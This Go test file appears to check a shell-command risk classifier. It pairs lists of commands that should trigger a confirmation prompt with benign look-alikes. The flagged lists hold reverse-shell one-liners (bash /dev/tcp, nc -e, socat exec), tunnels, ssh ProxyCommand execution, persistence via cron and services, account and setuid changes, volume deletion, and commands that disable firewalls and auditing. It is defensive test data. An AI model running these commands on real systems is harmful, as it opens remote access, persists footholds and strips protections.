package shell_test

import "testing"

func TestWaysInForOtherMachinesAreAskedAbout(t *testing.T) {
	t.Parallel()
	for _, d := range []danger{
		{"remote-shell",
			[]string{
				"bash -i >& /dev/tcp/h/1 0>&1", "exec 3<>/dev/tcp/h/1", "cat </dev/tcp/h/1", "echo x > /dev/udp/h/1", "timeout 1 bash -c '</dev/tcp/h/1'", "x=/dev/tcp/h/1; sh > $x", "nc -e sh h 1", "nc h 1 -c sh", "ncat --sh-exec sh h 1", "ncat --exec=sh h 1", "busybox nc h 1 -e sh", "nc.traditional -e sh h 1",
				"socat tcp:h:1 exec:sh", "socat SYSTEM:id tcp-listen:1", "sh -i | nc h 1", "cat f | sh -i 2>&1 | nc h 1 > f", "bash | openssl s_client -connect h:1", "gawk 'BEGIN{s=\"/inet/tcp/0/h/1\"}'",
			},
			[]string{"echo /dev/tcp/h/1", "grep /dev/tcp x", "ls /dev", "git commit -m 'use /dev/tcp/'"}},
		{"raw-connection",
			[]string{"nc h 1", "nc -l 1", "nc -lvnp 1", "ncat --listen 1", "echo x | nc h 1", "nc $HOST 1", "socat - TCP:h:1", "socat TCP-LISTEN:1 STDOUT", "socat TCP4-LISTEN:1,fork TCP:localhost:2"},
			[]string{"nc -z h 22", "nc -zv h 22", "nc -h", "echo x | nc localhost 1", "nc -w 1 127.0.0.1 80", "nc -U x.sock", "socat - UNIX-CONNECT:x.sock", "socat - TCP:localhost:1"}},
		{"remote-access",
			[]string{"ssh -R 1:localhost:2 h", "ssh -fNR 1 h", "ssh -NR1:localhost:2 h", "ssh -o RemoteForward=1 h", "ssh -w 0 h", "ngrok http 80", "cloudflared tunnel run", "tailscale serve 80", "ttyd bash", "sshd -D", "code tunnel", "x11vnc", "xhost +", "python3 -m http.server -d ~", "python3 -m http.server --directory=/etc", "cd ~ && python3 -m http.server"},
			[]string{"ssh h ls", "ssh -L 1:localhost:2 h", "ssh -i ~/.ssh/key -p 22 h uptime", "ngrok --version", "cloudflared --version", "tailscale status", "code .", "python3 -m http.server 8000", "python3 -m http.server -d public"}},
		{"option-exec",
			[]string{"ssh -o ProxyCommand='sh -c id' h", "ssh -oProxyCommand=id h", "ssh -o 'ProxyCommand id' h", "ssh -o LocalCommand=id h", "ssh -F x h", "ssh -I x.so h", "ssh -o KnownHostsCommand=id h"},
			[]string{"ssh -o StrictHostKeyChecking=no h ls", "ssh -o ConnectTimeout=5 h ls", "ssh -J jump h ls", "ssh -o 'ProxyCommand=ssh -W %h:%p jump' h ls", "ssh -F /dev/null h ls", "ssh -T git@github.com", "ssh -v h ls", "ssh -a h ls"}},
	} {
		d.check(t)
	}
}

func TestWhatStaysAfterTheCommandIsAskedAbout(t *testing.T) {
	t.Parallel()
	for _, d := range []danger{
		{"runs-later",
			[]string{"crontab x", "crontab -", "crontab -e", "crontab -r", "crontab -u root x", "echo x | crontab -", "at now", "at -f x now", "batch", "systemctl enable x", "systemctl --user enable --now x", "systemctl link /tmp/x.service", "systemctl edit x", "systemd-run ls", "systemd-run --user --on-calendar=hourly ls", "loginctl enable-linger", "launchctl load x", "launchctl bootstrap gui/1 x", "update-rc.d x defaults", "chkconfig x on", "rc-update add x", "pm2 startup", "schtasks /Create /tn x", "sc create x", "reg add x", "git maintenance start", "defaults write com.apple.loginwindow LoginHook x"},
			[]string{"crontab -l", "crontab -u root -l", "at -l", "atq", "systemctl status x", "systemctl start x", "systemctl daemon-reload", "systemctl list-timers", "systemctl is-enabled x", "loginctl list-sessions", "launchctl list", "chkconfig --list", "rc-update show", "pm2 list", "pm2 start x", "defaults read x", "defaults write com.x y -bool true"}},
		{"tool-settings",
			[]string{"npm config set script-shell x", "npm config set registry http://x", "npm set registry=http://x", "npm c set ignore-scripts false", "npm config set //x/:_authToken y", "yarn config set yarnPath x", "pip config set global.index-url x", "go env -w GOFLAGS=-toolexec=x", "go env -w GOPROXY=x", "go env -w CC=x", "gh alias set x '!id'", "gh extension install x/y", "gh config set pager 'sh -c id'", "gem sources --add x", "direnv allow", "mise trust", "code --install-extension x", "update-alternatives --set x y", "xdg-mime default x y"},
			[]string{"npm config get registry", "npm config list", "npm config set fund false", "npm config set registry https://registry.npmjs.org/", "pip config list", "go env", "go env GOPATH", "go env -w GOFLAGS=-mod=mod", "go env -w GO111MODULE=on", "gh alias list", "gh config set editor vim", "gem sources", "direnv exec . ls", "code --list-extensions", "update-alternatives --list x", "yarn config list", "npm ci"}},
		{"user-account",
			[]string{"useradd x", "usermod -aG docker x", "userdel x", "groupadd x", "adduser x", "passwd", "passwd x", "chpasswd", "visudo", "chsh -s x", "gpasswd -a x y", "net user x y /add", "dscl . -create /Users/x", "sudo usermod -aG sudo x"},
			[]string{"id", "groups", "whoami", "passwd -S x", "getent passwd", "net user", "dscl . -list /Users", "useradd --help"}},
		{"setuid",
			[]string{"chmod u+s x", "chmod +s x", "chmod 4755 x", "chmod 2755 x", "chmod 6755 x", "chmod u=rwxs x", "chmod a+x,g+s x", "install -m 4755 x y", "install --mode=u+s x y", "setcap cap_net_raw+ep x"},
			[]string{"chmod 755 x", "chmod 0755 x", "chmod +x x", "chmod u+x x", "chmod 600 x", "install -m 755 x y", "getcap x", "setcap -v cap_net_raw+ep x", "chmod u-s x"}},
		{"authorized-key", []string{"ssh-copy-id h"}, []string{"ssh-keygen -l -f x.pub"}},
		{"file-rights", []string{"setfacl -m u:x:rw y", "chattr +i x"}, []string{"getfacl x", "lsattr x"}},
		{"kernel", []string{"insmod x.ko", "modprobe x", "sysctl -w a=b", "sysctl a=b", "swapoff -a", "kexec -l x"}, []string{"lsmod", "sysctl -a", "sysctl -n kern.x", "swapon --show", "modinfo x"}},
		{"mount", []string{"mount -o remount,rw /", "mount --bind a b", "mount /dev/x y", "mknod x b 8 0"}, []string{"mount", "mount -l", "findmnt", "mknod x p"}},
		{"volume-delete", []string{"zpool destroy x", "zfs destroy -r x", "lvremove x", "mdadm --zero-superblock x", "btrfs subvolume delete x", "tmutil delete x"}, []string{"zpool list", "zpool status", "zfs list", "lvs", "mdadm --detail x", "btrfs subvolume list x"}},
		{"protection", []string{"iptables -F", "iptables -A INPUT -j ACCEPT", "ufw disable", "ufw allow 22", "nft flush ruleset", "setenforce 0", "firewall-cmd --add-port=1/tcp", "pfctl -d", "auditctl -D", "spctl --master-disable", "Set-MpPreference -x"}, []string{"iptables -L", "iptables -nvL", "iptables -S", "ufw status", "nft list ruleset", "firewall-cmd --list-all", "getenforce", "pfctl -sr"}},
	} {
		d.check(t)
	}
}
